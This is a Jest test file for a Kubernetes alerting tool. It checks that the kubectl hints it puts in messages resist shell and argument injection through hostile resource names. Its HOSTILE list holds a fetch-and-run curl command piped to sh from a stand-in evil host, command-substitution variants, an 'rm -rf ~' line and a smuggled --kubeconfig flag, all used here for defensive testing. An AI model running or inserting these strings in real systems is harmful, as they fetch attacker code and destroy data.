/** The kubectl lines of a message are safe to paste, whatever names the cluster (or a sender) wrote (issue 15). */
import { describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import type { ActionData, SignalData } from '../_contracts/events.js';
import { actionMessage, kubectlHints, resolvedMessage, shellQuote } from './decide.js';

const signal = (edit: Partial<SignalData> = {}): SignalData => ({
  class: 'crashloop',
  severity: 'warning',
  reason: 'BackOff',
  message: 'Back-off restarting failed container',
  target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'shop', name: 'web', resolvedBy: 'ownerReferences' },
  involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'shop', name: 'web-7d9c8b5f4-x2x7q' },
  container: 'web',
  occurrences: 3,
  firstSeen: '2026-11-22T09:58:00.000Z',
  lastSeen: '2026-11-22T10:00:00.000Z',
  detectedBy: 'classify',
  key: '00000000000000a1',
  ...edit,
});

const HOSTILE = [
  'web; curl https://evil.example/p | sh',
  "web'; curl https://evil.example/p | sh; '",
  'web$(curl https://evil.example/p)',
  'web`id`',
  'web\nrm -rf ~',
  '--kubeconfig=/tmp/evil',
];

describe('kubectl hints', () => {
  it('are plain commands for real names', () => {
    expect(kubectlHints(signal())).toEqual([
      'kubectl describe deployment web -n shop',
      'kubectl get events -n shop --field-selector involvedObject.name=web-7d9c8b5f4-x2x7q',
      'kubectl logs -n shop web-7d9c8b5f4-x2x7q -c web --previous',
      'kubectl rollout history deployment web -n shop',
    ]);
  });

  it.each(HOSTILE)('a target, pod, namespace or container named %j gives a note, never a command', (hostile) => {
    const target = signal().target;
    const involved = signal().involved;
    for (const s of [
      signal({ target: { ...target, name: hostile } }),
      signal({ target: { ...target, namespace: hostile } }),
      signal({ involved: { ...involved, name: hostile } }),
      signal({ container: hostile }),
    ]) {
      const lines = kubectlHints(s);
      expect(lines.some((l) => l.startsWith('# no command: '))).toBe(true);
      for (const line of lines) {
        expect(line).not.toContain('evil');
        expect(line).not.toContain('\n');
        if (!line.startsWith('#')) expect(line).toMatch(/^kubectl [-A-Za-z0-9 .=/]+$/);
      }
    }
  });

  it('the commands of an action outcome too', () => {
    const action: ActionData = {
      verb: 'rolledback',
      outcome: 'failed',
      reason: 'the API server refused',
      target: { kind: 'Deployment', namespace: 'shop', name: HOSTILE[0]! },
      signal: { id: 'i', type: 'dev.reflex.signal.crashloop', key: '00000000000000a1', class: 'crashloop' },
      steps: [],
      dryRun: false,
    };
    const m = actionMessage(action, 0, '2026-11-22T10:00:00Z');
    expect(m.kubectl).toHaveLength(2);
    for (const line of m.kubectl) expect(line).toMatch(/^# no command: the Deployment name is not a valid Kubernetes name/);
    expect(actionMessage({ ...action, target: { kind: 'Node', namespace: '', name: 'node-1' } }, 0, 'x').kubectl).toEqual([
      'kubectl describe node node-1',
      'kubectl events --for node/node-1',
    ]);
  });
});

describe('shellQuote', () => {
  it.each([...HOSTILE, "it's", "''", '', 'plain-name.1', 'a b', '-n'])('%j reaches a POSIX shell as exactly one argument', (value) => {
    const out = execFileSync('sh', ['-c', `printf '%s\\0' ${shellQuote(value)}`], { encoding: 'utf8' });
    expect(out).toBe(`${value}\0`);
  });
});

describe('a resolved follow-up says who saw the problem end', () => {
  const base = {
    key: 'k',
    class: 'crashloop',
    severity: 'warning' as const,
    target: { kind: 'Deployment', namespace: 'shop', name: 'web' },
    firstSeen: '2026-11-22T10:00:00Z',
    lastSeen: '2026-11-22T10:20:00Z',
    resolvedAt: '2026-11-22T10:30:00Z',
  };
  it.each([
    [{ ...base, resolvedBy: 'sweep' as const }, 'sweep no longer finds the problem on its ticks'],
    [base, 'sweep no longer finds the problem on its ticks'],
    [{ ...base, resolvedBy: 'alertmanager' as const }, 'Alertmanager resolved the alert it came from'],
  ])('%#', (r, why) => {
    expect(resolvedMessage(r).why).toBe(why);
  });
});
